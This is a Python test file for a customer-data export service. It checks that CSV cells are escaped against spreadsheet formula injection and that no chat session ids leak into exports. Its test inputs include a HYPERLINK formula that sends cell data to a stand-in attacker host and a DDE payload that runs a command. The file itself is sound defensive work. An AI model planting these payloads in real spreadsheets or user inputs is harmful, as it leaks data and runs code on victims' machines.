"""The customer's exports are safe to open and to hand on: no CSV cell a spreadsheet would run, and
no chat session id (the key to a verified website conversation) in the JSON, the CSV or the my-data answer."""
from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from backoffice.my_data.rules import spreadsheet_safe

from .conftest import SERVICE, bind, local, new_conversation

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Klik hier")'
FORMULAS = {"first_name": HYPERLINK, "last_name": "-2+3"}
CUSTOMER = "C0017"  # no other test reads or changes this seed customer


def downloads(client: TestClient, conversation: str) -> tuple[str, str]:
    link = client.post(f"/api/conversations/{conversation}/exports", params={"language": "en"}, headers=SERVICE).json()
    return client.get(local(link["json_url"])).text, client.get(local(link["csv_url"])).text


def test_formula_cells_in_the_csv_are_written_as_text(client, clock, company, tracker):
    """A value a customer (or anyone writing to a company system) could set reaches the CSV as text."""
    answer = company.http.post(f"/systems/crm/customers/{CUSTOMER}/rectify", json={"field": "name", "value": FORMULAS},
                               headers={"Idempotency-Key": f"csv-injection-{new_conversation()}"})
    assert answer.status_code == 200, answer.text
    conversation = new_conversation()
    bind(client, clock, conversation, CUSTOMER)
    tracker.say(conversation, ("user", "@SUM(1+1)*cmd|' /C calc'!A0"), ("bot", "+31 20 123 4567"))

    document, table = downloads(client, conversation)
    rows = list(csv.reader(io.StringIO(table)))
    values = {(r[0], r[1], r[3]): r[4] for r in rows[1:]}
    assert values[("contact_details", "crm", "first_name")] == "'" + HYPERLINK
    assert values[("contact_details", "crm", "last_name")] == "'-2+3"
    assert values[("customer_service", "assistant", "messages[0].text")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert values[("customer_service", "assistant", "messages[1].text")] == "'+31 20 123 4567"
    starts = tuple("=+-@\t\r")
    assert not [cell for row in rows for cell in row if cell.startswith(starts)]
    by_id = {c["id"]: c for c in json.loads(document)["categories"]}
    [contact] = [d["record"] for d in by_id["contact_details"]["data"] if d["system"] == "crm"]
    assert contact["first_name"] == HYPERLINK  # the JSON keeps the value exactly as the system holds it


def test_spreadsheet_safe_prefixes_every_formula_start_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    for harmless in ("Amsterdam", "", "1+1", " =1", "'=already"):
        assert spreadsheet_safe(harmless) == harmless


def test_the_exports_and_the_my_data_answer_hold_no_session_id(client, clock, tracker):
    first, second = new_conversation(), new_conversation()
    for conversation in (first, second):
        bind(client, clock, conversation, "C0001")
        tracker.say(conversation, ("user", "Welke gegevens hebben jullie?"), ("bot", "Dit zijn ze."))

    answer = client.get(f"/api/conversations/{second}/my-data", params={"language": "en"}, headers=SERVICE)
    assert answer.status_code == 200 and answer.json()["conversations"]["count"] == 2
    document, table = downloads(client, second)
    for text in (answer.text, document, table):
        assert first not in text and second not in text

    # Each transcript keeps a name the customer can refer to: the day it started and its number that day.
    rows = list(csv.reader(io.StringIO(table)))
    named = sorted(r[4] for r in rows[1:] if r[1] == "assistant" and r[3] == "conversation")
    assert named == ["2026-01-31 #1", "2026-01-31 #2"]
